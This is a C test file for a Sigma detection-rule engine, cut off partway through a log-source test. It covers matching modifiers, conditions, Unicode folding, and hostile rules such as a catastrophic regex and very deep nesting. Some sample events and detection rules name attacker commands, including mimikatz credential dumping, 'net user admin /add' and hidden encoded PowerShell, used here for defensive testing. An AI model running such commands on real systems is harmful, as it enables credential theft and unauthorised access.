/* test_sigma.c - the Sigma compiler and matcher: every modifier, every
 * condition form, the log-source layer, the alert, and hostile rules
 * (catastrophic regexes, huge value lists, deep conditions, bad YAML).
 *
 * Rules here are small ones written for these tests; events are JSON lines
 * replayed through the engine's own JSON source. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "output/alert.h"
#include "sigma/sigma.h"
#include "sigma/sigma_int.h"
#include "testlib.h"

#define SYSMON "Microsoft-Windows-Sysmon"

static const char *HDR = "{\"header\":{\"descriptor\":{\"id\":%d,\"version\":0,\"channel\":0,\"level\":4,\"op_code\":0,"
                         "\"task\":0,\"keyword\":0},\"thread_id\":1,\"process_id\":4,\"ts\":\"2024-03-05T10:11:12."
                         "1234567Z\",\"provider_guid\":\"{00000000-0000-0000-0000-000000000000}\",\"provider_name\":"
                         "\"%s\"%s,\"activity_guid\":\"{00000000-0000-0000-0000-000000000000}\",\"flags\":0,"
                         "\"kernel_time\":0,\"user_time\":0,\"processor_time\":0},\"info\":%s}\n";

typedef struct hits {
    etwl_sigma *s;
    int n;
    etwl_buf alert;
    etwl_buf *ids;
} hits;

static void on_hit(void *ctx, etwl_event *ev, size_t rule)
{
    hits *h = ctx;
    h->n++;
    if (h->ids) etwl_buf_printf(h->ids, "%s,", etwl_sigma_rule(h->s, rule)->id);
    etwl_buf_reset(&h->alert);
    etwl_sigma_alert(h->s, rule, ev, &h->alert, ETWL_ALERT_JSON);
}

static etwl_status on_event(etwl_event *ev, void *ctx)
{
    hits *h = ctx;
    etwl_sigma_match(h->s, ev, on_hit, h);
    return ETWL_OK;
}

/* Replays events (one JSON "info" object each, of provider/id/channel)
 * through the set; returns the matches. */
static int replay(etwl_sigma *s, const char *provider, int id, const char *channel, const char *const *infos, int n,
                  etwl_buf *alert)
{
    const char *path = tl_tmp_path("sigma-test.jsonl");
    FILE *f = fopen(path, "w");
    etwl_config cfg;
    etwl_session *ses;
    etwl_error err;
    hits h = {s, 0, {0}, NULL};
    char chan[256] = "";
    assert_non_null(f);
    if (channel) snprintf(chan, sizeof chan, ",\"channel_name\":\"%s\"", channel);
    for (int i = 0; i < n; i++) fprintf(f, HDR, id, provider, chan, infos[i]);
    fclose(f);
    etwl_buf_init(&h.alert);
    etwl_config_init(&cfg);
    cfg.read_path = path;
    assert_int_equal(etwl_session_open(&cfg, &ses, &err), ETWL_OK);
    assert_int_equal(etwl_session_process(ses, on_event, &h, &err), ETWL_OK);
    etwl_session_free(ses);
    if (alert) {
        etwl_buf_reset(alert);
        if (h.alert.data) etwl_buf_puts(alert, h.alert.data);
    }
    etwl_buf_free(&h.alert);
    return h.n;
}

/* Sysmon 1 events at these seconds past 10:00:00, with these info objects;
 * returns the hits, and their rule ids (comma-separated) in ids. */
static int replay_at(etwl_sigma *s, const int *secs, const char *const *infos, int n, etwl_buf *ids)
{
    const char *path = tl_tmp_path("sigma-corr.jsonl");
    FILE *f = fopen(path, "w");
    etwl_config cfg;
    etwl_session *ses;
    etwl_error err;
    hits h = {s, 0, {0}, NULL};
    assert_non_null(f);
    for (int i = 0; i < n; i++) {
        char line[4096], ts[64];
        snprintf(ts, sizeof ts, "2024-03-05T%02d:%02d:%02d.0000000Z", 10 + secs[i] / 3600, secs[i] / 60 % 60,
                 secs[i] % 60);
        snprintf(line, sizeof line, HDR, 1, SYSMON, "", infos[i]);
        /* the header's fixed time, replaced */
        char *at = strstr(line, "2024-03-05T10:11:12.1234567Z");
        assert_non_null(at);
        memcpy(at, ts, strlen(ts));
        fputs(line, f);
    }
    fclose(f);
    etwl_buf_init(&h.alert);
    etwl_config_init(&cfg);
    cfg.read_path = path;
    assert_int_equal(etwl_session_open(&cfg, &ses, &err), ETWL_OK);
    if (ids) {
        etwl_buf_reset(ids);
        h.ids = ids;
    }
    assert_int_equal(etwl_session_process(ses, on_event, &h, &err), ETWL_OK);
    etwl_session_free(ses);
    etwl_buf_free(&h.alert);
    return h.n;
}

static etwl_sigma *rule_set(const char *yaml, etwl_sigma_state want)
{
    etwl_sigma *s;
    etwl_error err;
    assert_int_equal(etwl_sigma_new(&s), ETWL_OK);
    assert_int_equal(etwl_sigma_load_string(s, yaml, strlen(yaml), "test.yml", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_count(s), 1);
    if (etwl_sigma_rule(s, 0)->state != want)
        fail_msg("state %s, reason %s", etwl_sigma_state_name(etwl_sigma_rule(s, 0)->state),
                 etwl_sigma_rule(s, 0)->reason ? etwl_sigma_rule(s, 0)->reason : "-");
    return s;
}

/* A process_creation rule with this detection body. */
static char *pc_rule(const char *detection)
{
    static char buf[1 << 20];
    snprintf(buf, sizeof buf,
             "title: t\nid: 11111111-1111-1111-1111-111111111111\nstatus: test\nlevel: high\n"
             "logsource:\n  product: windows\n  category: process_creation\ndetection:\n%s",
             detection);
    return buf;
}

/* One Sysmon 1 event with this info object: 1 when the rule matches. */
static int pc_match(const char *detection, const char *info)
{
    etwl_sigma *s = rule_set(pc_rule(detection), ETWL_SIGMA_OK);
    int n = replay(s, SYSMON, 1, NULL, &info, 1, NULL);
    etwl_sigma_free(s);
    return n;
}

static void pc_fails(const char *detection, etwl_sigma_state st, const char *reason_part)
{
    etwl_sigma *s = rule_set(pc_rule(detection), st);
    const char *r = etwl_sigma_rule(s, 0)->reason;
    if (!r || !strstr(r, reason_part)) fail_msg("reason '%s' lacks '%s'", r ? r : "(none)", reason_part);
    etwl_sigma_free(s);
}

static void test_basic_matching(void **state)
{
    (void)state;
    const char *ev = "{\"Image\":\"C:\\\\Windows\\\\System32\\\\WHOAMI.exe\",\"CommandLine\":\"whoami /all\"}";
    assert_int_equal(pc_match("  sel:\n    Image|endswith: '\\whoami.exe'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image|startswith: 'c:\\windows\\'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|contains: ' /ALL'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine: 'whoami /all'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine: 'whoami'\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    Image|endswith: '\\cmd.exe'\n  condition: sel\n", ev), 0);
    /* a field the event lacks never matches a value */
    assert_int_equal(pc_match("  sel:\n    ParentImage|contains: 'x'\n  condition: sel\n", ev), 0);
}

static void test_cased(void **state)
{
    (void)state;
    const char *ev = "{\"CommandLine\":\"Run ME\"}";
    assert_int_equal(pc_match("  sel:\n    CommandLine|cased: 'Run ME'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|cased: 'run me'\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    CommandLine|contains|cased: 'ME'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|contains|cased: 'me'\n  condition: sel\n", ev), 0);
}

static void test_wildcards_and_escapes(void **state)
{
    (void)state;
    const char *ev = "{\"CommandLine\":\"a*b?c\\\\d\",\"Image\":\"abc\"}";
    assert_int_equal(pc_match("  sel:\n    Image: 'a?c'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image: 'a*'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image: '*c'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image: 'a??c'\n  condition: sel\n", ev), 0);
    /* \* and \? are literal; a lone backslash is itself */
    assert_int_equal(pc_match("  sel:\n    CommandLine: 'a\\*b\\?c\\d'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image: 'a\\*'\n  condition: sel\n", ev), 0);
    /* \\ is one backslash */
    assert_int_equal(pc_match("  sel:\n    CommandLine|endswith: 'c\\\\d'\n  condition: sel\n", ev), 1);
    /* ? is one character, even a multi-byte one */
    assert_int_equal(pc_match("  sel:\n    Image: '?bc'\n  condition: sel\n", "{\"Image\":\"\xc3\xa9"
                                                                              "bc\"}"),
                     1);
}

static void test_all_and_lists(void **state)
{
    (void)state;
    const char *ev = "{\"CommandLine\":\"net user admin /add\"}";
    assert_int_equal(
        pc_match("  sel:\n    CommandLine|contains|all:\n      - 'net'\n      - '/add'\n  condition: sel\n", ev), 1);
    assert_int_equal(
        pc_match("  sel:\n    CommandLine|contains|all:\n      - 'net'\n      - '/del'\n  condition: sel\n", ev), 0);
    assert_int_equal(
        pc_match("  sel:\n    CommandLine|contains:\n      - 'xyz'\n      - '/add'\n  condition: sel\n", ev), 1);
    /* a list of maps: any map */
    assert_int_equal(
        pc_match("  sel:\n    - CommandLine: 'x'\n    - CommandLine|contains: 'user'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    - CommandLine: 'x'\n    - Image: 'y'\n  condition: sel\n", ev), 0);
    /* a map: every field */
    assert_int_equal(pc_match("  sel:\n    CommandLine|contains: 'net'\n    Image: 'y'\n  condition: sel\n", ev), 0);
}

static void test_keywords(void **state)
{
    (void)state;
    const char *ev = "{\"CommandLine\":\"mimikatz sekurlsa::logonpasswords\",\"Image\":\"x\"}";
    assert_int_equal(pc_match("  keywords:\n    - 'SEKURLSA'\n    - 'nothing'\n  condition: keywords\n", ev), 1);
    assert_int_equal(pc_match("  keywords:\n    - 'other'\n  condition: keywords\n", ev), 0);
    assert_int_equal(pc_match("  keywords: 'logonpasswords'\n  condition: keywords\n", ev), 1);
}

static void test_null_and_empty(void **state)
{
    (void)state;
    const char *ev = "{\"CommandLine\":\"\",\"Image\":\"x\"}";
    assert_int_equal(pc_match("  sel:\n    ParentImage: null\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image: null\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    CommandLine: ''\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image: ''\n  condition: sel\n", ev), 0);
}

static void test_regex(void **state)
{
    (void)state;
    const char *ev = "{\"CommandLine\":\"Line1\\nPowerShell -ENC abc\"}";
    assert_int_equal(pc_match("  sel:\n    CommandLine|re: 'PowerShell\\s+-enc'\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    CommandLine|re|i: 'PowerShell\\s+-enc'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|re: '^PowerShell'\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    CommandLine|re|m: '^PowerShell'\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|re: 'Line1.Power'\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    CommandLine|re|s: 'Line1.Power'\n  condition: sel\n", ev), 1);
    pc_fails("  sel:\n    CommandLine|re: '(unclosed'\n  condition: sel\n", ETWL_SIGMA_VALUE, "regex error");
}

/* (a+)+$ against a long run of a's that ends wrong: exponential without a
 * limit.  The match must end quickly, count as no match, and be counted. */
static void test_catastrophic_regex(void **state)
{
    (void)state;
    char info[256];
    etwl_sigma *s = rule_set(pc_rule("  sel:\n    CommandLine|re: '^(a+)+$'\n  condition: sel\n"), ETWL_SIGMA_OK);
    const char *evs[1] = {info};
    clock_t t0 = clock();
    snprintf(info, sizeof info, "{\"CommandLine\":\"%s!\"}",
             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
    assert_int_equal(replay(s, SYSMON, 1, NULL, evs, 1, NULL), 0);
    assert_true(etwl_sigma_regex_limit_hits(s) >= 1);
    assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 10.0);
    etwl_sigma_free(s);
}

static void test_base64_and_utf16(void **state)
{
    (void)state;
    /* "whoami" base64 is d2hvYW1p; as UTF-16LE: dwBoAG8AYQBtAGkA */
    assert_int_equal(
        pc_match("  sel:\n    CommandLine|base64: 'whoami'\n  condition: sel\n", "{\"CommandLine\":\"d2hvYW1p\"}"), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|base64|contains: 'whoami'\n  condition: sel\n",
                              "{\"CommandLine\":\"x d2hvYW1p y\"}"),
                     1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|wide|base64: 'whoami'\n  condition: sel\n",
                              "{\"CommandLine\":\"dwBoAG8AYQBtAGkA\"}"),
                     1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|utf16le|base64: 'whoami'\n  condition: sel\n",
                              "{\"CommandLine\":\"dwBoAG8AYQBtAGkA\"}"),
                     1);
    /* UTF-16BE "ab" = 00 61 00 62 -> AGEAYg==; with a BOM (utf16): FF FE 61 00 62 00 -> //5hAGIA */
    assert_int_equal(
        pc_match("  sel:\n    CommandLine|utf16be|base64: 'ab'\n  condition: sel\n", "{\"CommandLine\":\"AGEAYg==\"}"),
        1);
    assert_int_equal(
        pc_match("  sel:\n    CommandLine|utf16|base64: 'ab'\n  condition: sel\n", "{\"CommandLine\":\"//5hAGIA\"}"),
        1);
    /* base64offset: "whoami" at any of the three alignments inside a blob:
     * base64("xwhoami") = eHdob2FtaQ==, base64("xxwhoami") = eHh3aG9hbWk= */
    const char *d = "  sel:\n    CommandLine|base64offset|contains: 'whoami'\n  condition: sel\n";
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"d2hvYW1p\"}"), 1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"eHdob2FtaQ==\"}"), 1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"eHh3aG9hbWk=\"}"), 1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"bm90aGluZw==\"}"), 0);
}

static void test_windash(void **state)
{
    (void)state;
    const char *d = "  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel\n";
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell -enc x\"}"), 1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell /enc x\"}"), 1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x93"
                                 "enc x\"}"),
                     1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x94"
                                 "enc x\"}"),
                     1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x95"
                                 "enc x\"}"),
                     1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell enc x\"}"), 0);
}

/* every combination: each dash varies on its own, not all together */
static void test_windash_combinations(void **state)
{
    (void)state;
    const char *d = "  sel:\n    CommandLine|windash|contains: ' -nop -w hidden -e '\n  condition: sel\n";
    const char *dd = "  sel:\n    CommandLine|windash: 'x -a /b -c /d'\n  condition: sel\n";
    etwl_sigma *s;
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell -nop /w hidden \xe2\x80\x94"
                                 "e AAAA\"}"),
                     1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell /nop \xe2\x80\x93w hidden -e AAAA\"}"), 1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell /nop +w hidden -e AAAA\"}"), 0);
    /* a dash inside a word is not varied */
    assert_int_equal(
        pc_match("  sel:\n    CommandLine|windash: 'a-b'\n  condition: sel\n", "{\"CommandLine\":\"a/b\"}"), 0);
    /* four positions: 625 values, the last combination included */
    assert_int_equal(pc_match(dd, "{\"CommandLine\":\"x \xe2\x80\x95"
                                  "a \xe2\x80\x95"
                                  "b \xe2\x80\x95"
                                  "c \xe2\x80\x95"
                                  "d\"}"),
                     1);
    assert_int_equal(pc_match(dd, "{\"CommandLine\":\"x /a -b /c -d\"}"), 1);
    s = rule_set(pc_rule(dd), ETWL_SIGMA_OK);
    etwl_sigma_free(s);
    /* hostile: many dashes are refused with the reason, not expanded */
    pc_fails("  sel:\n    CommandLine|windash: '-a -b -c -d -e -f -g -h -i -j -k -l -m -n -o -p'\n  condition: sel\n",
             ETWL_SIGMA_VALUE, "windash: more than 4 dashes");
}

/* Case-insensitive beyond ASCII: Cyrillic, Greek, accented Latin, and
 * invalid UTF-8 compared byte for byte, never read past its end. */
static void test_unicode_case(void **state)
{
    (void)state;
    const char *ru = "{\"CommandLine\":\"\xd0\x9f\xd0\xa0\xd0\x98\xd0\x92\xd0\x95\xd0\xa2 mir\"}"; /* ПРИВЕТ */
    const char *el = "{\"CommandLine\":\"\xce\xa3\xce\x9f\xce\xa6\xce\x9f\xce\xa3\"}";             /* ΣΟΦΟΣ */
    const char *fr = "{\"CommandLine\":\"C:\\\\Users\\\\\xc3\x89LODIE\\\\x.exe\"}";                /* ÉLODIE */
    const char *yy = "{\"CommandLine\":\"ab\\u00ffcd\"}";
    assert_int_equal(pc_match("  sel:\n    CommandLine|contains: '\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82'\n"
                              "  condition: sel\n",
                              ru),
                     1);
    /* final sigma meets capital sigma */
    assert_int_equal(
        pc_match("  sel:\n    CommandLine: '\xcf\x83\xce\xbf\xcf\x86\xce\xbf\xcf\x82'\n  condition: sel\n", el), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|contains: '\\\xc3\xa9lodie\\'\n  condition: sel\n", fr), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|contains: '\\elodie\\'\n  condition: sel\n", fr), 0);
    /* |cased keeps the case, beyond ASCII too (and the prefilter must not
     * lose a cased literal the folded text no longer holds) */
    assert_int_equal(pc_match("  sel:\n    CommandLine|cased|contains: '\xd0\x9f\xd0\xa0\xd0\x98\xd0\x92'\n"
                              "  condition: sel\n",
                              ru),
                     1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|cased|contains: '\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2'\n"
                              "  condition: sel\n",
                              ru),
                     0);
    /* y with diaeresis: its capital (U+0178) is in another block */
    assert_int_equal(pc_match("  sel:\n    CommandLine|startswith: 'AB\xc5\xb8'\n  condition: sel\n", yy), 1);
    assert_int_equal(pc_match("  sel:\n    CommandLine|endswith: 'B\xc5\xb8'\n  condition: sel\n", yy), 0);
}

static void test_fold_bytes(void **state)
{
    (void)state;
    char out[64];
    size_t n;
    /* stray continuation, overlong '/', a surrogate, a truncated tail */
    static const char hostile[] = "A\x80\xc0\xaf\xed\xa0\x80Z\xe2\x82";
    n = sg_fold(hostile, sizeof hostile - 1, out);
    assert_int_equal(n, sizeof hostile - 1);
    assert_memory_equal(out, "a\x80\xc0\xaf\xed\xa0\x80z\xe2\x82", n);
    if (!sg_fold_unicode()) skip();
    /* U+023A (2 bytes) lower-cases to U+2C65 (3 bytes) */
    n = sg_fold("\xc8\xba", 2, out);
    assert_int_equal(n, 3);
    assert_memory_equal(out, "\xe2\xb1\xa5", 3);
    /* Kelvin sign and K both fold to k */
    n = sg_fold("\xe2\x84\xaa", 3, out);
    assert_int_equal(n, 1);
    assert_int_equal(out[0], 'k');
}

static void test_cidr(void **state)
{
    (void)state;
    const char *d = "  sel:\n    CommandLine|cidr:\n      - '10.0.0.0/8'\n      - 'fe80::/10'\n  condition: sel\n";
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"10.1.2.3\"}"), 1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"11.1.2.3\"}"), 0);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"fe80::1\"}"), 1);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"2001:db8::1\"}"), 0);
    assert_int_equal(pc_match(d, "{\"CommandLine\":\"not an address\"}"), 0);
    pc_fails("  sel:\n    CommandLine|cidr: '10.0.0.0/40'\n  condition: sel\n", ETWL_SIGMA_VALUE, "CIDR");
}

static void test_exists_fieldref_numbers(void **state)
{
    (void)state;
    const char *ev = "{\"Image\":\"C:\\\\a.exe\",\"ParentImage\":\"c:\\\\A.EXE\",\"ProcessId\":42}";
    assert_int_equal(pc_match("  sel:\n    Image|exists: true\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    User|exists: true\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    User|exists: false\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image|fieldref: ParentImage\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image|fieldref|cased: ParentImage\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    Image|fieldref: ProcessId\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    ProcessId|gt: 41\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    ProcessId|gt: 42\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    ProcessId|gte: 42\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    ProcessId|lt: 42\n  condition: sel\n", ev), 0);
    assert_int_equal(pc_match("  sel:\n    ProcessId|lte: 42\n  condition: sel\n", ev), 1);
    assert_int_equal(pc_match("  sel:\n    Image|lt: 5\n  condition: sel\n", ev), 0); /* not a number */
    pc_fails("  sel:\n    ProcessId|gt: abc\n  condition: sel\n", ETWL_SIGMA_VALUE, "not a number");
    pc_fails("  sel:\n    Image|exists: maybe\n  condition: sel\n", ETWL_SIGMA_VALUE, "exists");
}

static void test_unsupported_modifiers(void **state)
{
    (void)state;
    pc_fails("  sel:\n    Image|expand: '%x%'\n  condition: sel\n", ETWL_SIGMA_MODIFIER, "expand");
    pc_fails("  sel:\n    Image|frobnicate: 'x'\n  condition: sel\n", ETWL_SIGMA_MODIFIER, "frobnicate");
}

static void test_expand(void **state)
{
    (void)state;
    const char *cfg = tl_tmp_path("sigma-config.yml");
    const char *rule = "title: e\nid: e1\nlogsource:\n  product: windows\n  category: process_creation\n"
                       "detection:\n  sel:\n    User|expand: '%admins%'\n  condition: sel\n";
    const char *alice = "{\"User\":\"CORP\\\\alice\"}", *eve = "{\"User\":\"CORP\\\\eve\"}";
    etwl_sigma *s;
    etwl_error err;
    FILE *f = fopen(cfg, "w");
    assert_non_null(f);
    fputs("placeholders:\n  admins:\n    - 'CORP\\alice'\n    - '*\\root'\n", f);
    fclose(f);
    assert_int_equal(etwl_sigma_new(&s), ETWL_OK);
    assert_int_equal(etwl_sigma_set_config(s, cfg, &err), ETWL_OK);
    assert_int_equal(etwl_sigma_load_string(s, rule, strlen(rule), "e.yml", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_rule(s, 0)->state, ETWL_SIGMA_OK);
    assert_int_equal(replay(s, SYSMON, 1, NULL, &alice, 1, NULL), 1);
    assert_int_equal(replay(s, SYSMON, 1, NULL, &eve, 1, NULL), 0);
    {
        const char *root = "{\"User\":\"HOST\\\\root\"}"; /* a placeholder value keeps its wildcards */
        assert_int_equal(replay(s, SYSMON, 1, NULL, &root, 1, NULL), 1);
    }
    etwl_sigma_free(s);
    /* a placeholder the config lacks is a stated reason */
    s = rule_set("title: e\nid: e2\nlogsource:\n  product: windows\n  category: process_creation\n"
                 "detection:\n  sel:\n    User|expand: '%nobody%'\n  condition: sel\n",
                 ETWL_SIGMA_MODIFIER);
    assert_non_null(strstr(etwl_sigma_rule(s, 0)->reason, "%nobody%"));
    etwl_sigma_free(s);
    f = fopen(cfg, "w");
    assert_non_null(f);
    fputs("- not a map\n", f);
    fclose(f);
    assert_int_equal(etwl_sigma_new(&s), ETWL_OK);
    assert_int_equal(etwl_sigma_set_config(s, cfg, &err), ETWL_EPARSE);
    etwl_sigma_free(s);
}

static void test_conditions(void **state)
{
    (void)state;
    const char *ev = "{\"Image\":\"a\",\"CommandLine\":\"b\"}";
    const char *sels = "  sel_a:\n    Image: a\n  sel_b:\n    CommandLine: b\n  sel_c:\n    Image: zzz\n"
                       "  _hidden:\n    Image: nope\n  filter:\n    CommandLine: c\n";
    struct {
        const char *cond;
        int want;
    } t[] = {
        {"sel_a and sel_b", 1},
        {"sel_a and sel_c", 0},
        {"sel_a or sel_c", 1},
        {"not sel_c", 1},
        {"not sel_a", 0},
        {"sel_a and not filter", 1},
        {"(sel_c or sel_b) and sel_a", 1},
        {"sel_c or (sel_b and not sel_a)", 0},
        {"not (sel_c or filter)", 1},
        {"1 of sel_*", 1},
        {"all of sel_*", 0},
        {"all of sel_a*", 1},
        {"any of sel_*", 1},
        {"1 of them", 1},
        {"all of them", 0},
        {"all of sel_a or all of sel_b", 1},
        /* 'them' leaves out _ selections: sel_a, sel_b match; the rest do not */
        {"1 of them and not _hidden", 1},
        {"sel_a and sel_b or sel_c", 1}, /* and binds tighter */
        {"sel_c and sel_b or sel_a", 1},
        {"sel_c and (sel_b or sel_a)", 0},
    };
    for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
        char det[2048];
        snprintf(det, sizeof det, "%s  condition: %s\n", sels, t[i].cond);
        if (pc_match(det, ev) != t[i].want) fail_msg("condition '%s': want %d", t[i].cond, t[i].want);
    }
    /* a list of conditions: any of them */
    assert_int_equal(pc_match("  a:\n    Image: x\n  b:\n    Image: a\n  condition:\n    - a\n    - b\n", ev), 1);
    pc_fails("  sel:\n    Image: a\n  condition: sel and\n", ETWL_SIGMA_CONDITION, "selection expected");
    pc_fails("  sel:\n    Image: a\n  condition: nosuch\n", ETWL_SIGMA_CONDITION, "nosuch");
    pc_fails("  sel:\n    Image: a\n  condition: (sel\n", ETWL_SIGMA_CONDITION, "')' expected");
    pc_fails("  sel:\n    Image: a\n  condition: 1 of x*\n", ETWL_SIGMA_CONDITION, "names no selection");
    pc_fails("  sel:\n    Image: a\n  condition: sel | count() > 5\n", ETWL_SIGMA_CORRELATION, "aggregation");
}

static void test_deep_conditions(void **state)
{
    (void)state;
    static char det[200000];
    size_t n = (size_t)snprintf(det, sizeof det, "  sel:\n    Image: a\n  condition: ");
    for (int i = 0; i < 5000; i++) det[n++] = '(';
    n += (size_t)snprintf(det + n, sizeof det - n, "sel");
    for (int i = 0; i < 5000; i++) det[n++] = ')';
    det[n++] = '\n';
    det[n] = 0;
    pc_fails(det, ETWL_SIGMA_CONDITION, "nested deeper");
    n = (size_t)snprintf(det, sizeof det, "  sel:\n    Image: a\n  condition: sel");
    for (int i = 0; i < 10000; i++) n += (size_t)snprintf(det + n, sizeof det - n, " and sel");
    det[n++] = '\n';
    det[n] = 0;
    pc_fails(det, ETWL_SIGMA_CONDITION, "longer than");
    n = (size_t)snprintf(det, sizeof det, "  sel:\n    Image: a\n  condition: ");
    for (int i = 0; i < 5000; i++) n += (size_t)snprintf(det + n, sizeof det - n, "not ");
    n += (size_t)snprintf(det + n, sizeof det - n, "sel\n");
    pc_fails(det, ETWL_SIGMA_CONDITION, "nested deeper");
    /* within the bound it works */
    assert_int_equal(pc_match("  sel:\n    Image: a\n  condition: ((((((((sel))))))))\n", "{\"Image\":\"a\"}"), 1);
}

static void test_huge_value_list(void **state)
{
    (void)state;
    size_t cap = 10000 * 40 + 256, n;
    char *det = malloc(cap);
    etwl_sigma *s;
    const char *hit = "{\"CommandLine\":\"run value-9999-end\"}", *miss = "{\"CommandLine\":\"run value-10000x\"}";
    clock_t t0;
    assert_non_null(det);
    n = (size_t)snprintf(det, cap, "  sel:\n    CommandLine|contains:\n");
    for (int i = 0; i < 10000; i++) n += (size_t)snprintf(det + n, cap - n, "      - 'value-%d-end'\n", i);
    snprintf(det + n, cap - n, "  condition: sel\n");
    s = rule_set(pc_rule(det), ETWL_SIGMA_OK);
    t0 = clock();
    assert_int_equal(replay(s, SYSMON, 1, NULL, &hit, 1, NULL), 1);
    assert_int_equal(replay(s, SYSMON, 1, NULL, &miss, 1, NULL), 0);
    assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 10.0);
    etwl_sigma_free(s);
    free(det);
}

static void test_invalid_yaml(void **state)
{
    (void)state;
    etwl_sigma *s;
    etwl_error err;
    const char *bad = "title: x\nid: 1\ndetection:\n  sel:\n    Image: [unclosed\n  condition: sel\n";
    assert_int_equal(etwl_sigma_new(&s), ETWL_OK);
    assert_int_equal(etwl_sigma_load_string(s, bad, strlen(bad), "bad.yml", &err), ETWL_OK);
    assert_int_equal(etwl_sigma_rule(s, 0)->state, ETWL_SIGMA_YAML);
    /* the file and the line */
    assert_non_null(strstr(etwl_sigma_rule(s, 0)->reason, "bad.yml:"));
    assert_true(strstr(etwl_sigma_rule(s, 0)->reason, ":6:") || strstr(etwl_sigma_rule(s, 0)->reason, ":5:"));
    assert_int_equal(etwl_sigma_running(s), 0);
    etwl_sigma_free(s);
    /* not a rule at all */
    s = rule_set("- just\n- a list\n", ETWL_SIGMA_YAML);
    etwl_sigma_free(s);
    s = rule_set("title: x\nid: y\nlogsource:\n  product: windows\n  category: process_creation\n", ETWL_SIGMA_YAML);
    etwl_sigma_free(s);
    /* a missing folder is an error, not a silent no-op */
    assert_int_equal(etwl_sigma_new(&s), ETWL_OK);
    assert_int_equal(etwl_sigma_load(s, "/nonexistent/sigma", &err), ETWL_ENOTFOUND);
    etwl_sigma_free(s);
}

static void test_logsources(void **state)
{
    (void)state;
    etwl_sigma *s;
    etwl_buf alert;
    const char *r4688 = "title: t\nid: 22222222-2222-2222-2222-222222222222\nlevel: informational\nstatus: stable\n"
                        "author: Someone\ntags:\n  - attack.execution\n  - attack.t1059.001\n"
                        "logsource:\n  product: windows\n  category: process_creation\n"
                        "detection:\n  sel:\n    Image|endswith: '\\cmd.exe'\n    IntegrityLevel: High\n"
                        "    User: bob\n  condition: sel\n";
    const char *ev4688 = "{\"NewProcessName\":\"C:\\\\Windows\\\\cmd.exe\",\"MandatoryLabel\":\"S-1-16-12288\","
                         "\"SubjectUserName\":\"bob\"}";
